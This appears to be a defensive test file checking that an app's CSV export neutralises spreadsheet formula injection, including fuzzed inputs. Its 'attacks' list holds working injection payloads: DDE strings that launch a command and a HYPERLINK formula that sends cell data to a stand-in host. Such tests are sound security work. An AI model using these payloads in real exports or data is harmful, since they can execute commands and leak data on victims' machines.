import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hostileTexts } from '../../fuzz/hostile-texts.ts';
import { csvOf } from '../../../shared/export/csv.ts';

/** What people with bad intentions have put into names; each runs when it is a cell of its own. */
const attacks = [
  `=1+1`,
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("https://x.example?leak="&A1,"Click")`,
  `+1+1`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  ` =1+1`,
  `\u00a0=1+1`,
  `\u0000=1+1`,
  `\u200b=1+1`,
  `\ufeff=1+1`,
  `＝1+1`,
  `＋1`,
  `－1`,
  `＠SUM(1)`,
  `"=1+1"`,
  `a";=1+1;"b`,
  `harmless;=1+1`,
  `harmless,=1+1`,
  `harmless\t=1+1`,
  `harmless\r\n=1+1`,
  `harmless\n"=1+1`,
];

/** Cells as RFC 4180 has them, and as whatever cuts by another separator and heeds no quotes could see them. */
function readCells(csv: string): string[] {
  const rows: string[][] = parse(csv, { bom: true });
  return [...rows.flat(), ...csv.split(/[,;|\t\r\n]/)];
}

/** A spreadsheet takes a cell for a formula by its first sign, after what it trims away. */
function isLive(cell: string): boolean {
  const trimmed = cell.replace(/^[\s\p{Cc}\p{Cf}"]+/u, '');
  return /^[=+\-@＝＋－＠]/.test(trimmed) && !/^-\d+(\.\d+)?$/.test(cell);
}

describe('a table that leaves the app', () => {
  it('holds no formula, however it is cut up', () => {
    const cells = attacks.flatMap((attack) => readCells(csvOf(['first', 'second'], [[attack, attack]])));
    expect(cells.filter(isLive)).toEqual([]);
  });

  it('holds none of the texts that have broken programs before', () => {
    const texts = hostileTexts().flatMap((text) =>
      ['', '=', '+', '-', '@', '\t=', ' ='].map((sign) => sign + text),
    );
    expect(
      readCells(
        csvOf(
          ['text'],
          texts.map((text) => [text]),
        ),
      ).filter(isLive),
    ).toEqual([]);
  });

  it('would be caught with one: the same cells as they are do run', () => {
    const asTheyAre = (text: string) => `"${text.replaceAll('"', '""')}"`;
    expect(attacks.filter((attack) => readCells(asTheyAre(attack)).some(isLive))).toEqual(attacks);
  });

  it('holds none whatever is typed, and everything but the apostrophes comes back', () => {
    const sign = fc.constantFrom(...Array.from(`=+-@＝\t\r\n ;,|"'a\0\u200b`));
    const text = fc.oneof(fc.string({ unit: sign }), fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (row) => {
        const csv = csvOf(
          row.map((_, column) => `c${column}`),
          [row],
        );
        expect(readCells(csv).filter(isLive)).toEqual([]);
        const [, read = []]: string[][] = parse(csv, { bom: true });
        const bare = (cell: string): string => cell.replaceAll("'", '');
        expect(read.map(bare)).toEqual(row.map(bare));
      }),
      { numRuns: 200 },
    );
  });

  it('leaves numbers numbers and names names, and a phone number can still be read', () => {
    const csv = csvOf(
      ['name', 'phone', 'count', 'balance', 'practice', 'left'],
      [['Åse-Marie O’Brien "Bo"', '+47 412 34 567', 7, -5.5, true, null]],
    );
    expect(csv).toBe(
      `\ufeff"name","phone","count","balance","practice","left"\r\n"Åse-Marie O’Brien ""Bo""","'+47 412 34 567",7,-5.5,true,\r\n`,
    );
  });
});
